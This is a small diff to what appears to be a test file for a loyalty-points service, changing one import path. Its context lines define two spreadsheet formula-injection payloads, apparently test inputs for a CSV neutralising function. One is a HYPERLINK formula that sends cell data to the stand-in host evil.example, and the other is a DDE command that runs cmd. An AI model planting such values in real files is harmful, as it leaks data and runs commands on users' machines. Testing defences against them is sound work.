@@ -13,7 +13,7 @@ from central.csv_cells import neutralise
 from central.embedded import enrol_device
 from central.ingest import ingest
 from central.transactions import in_transaction
-from kiosk.domain.events import PointsEarned
+from loyalty.domain.events import PointsEarned
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 COMMAND = "+cmd|' /C calc'!A0"
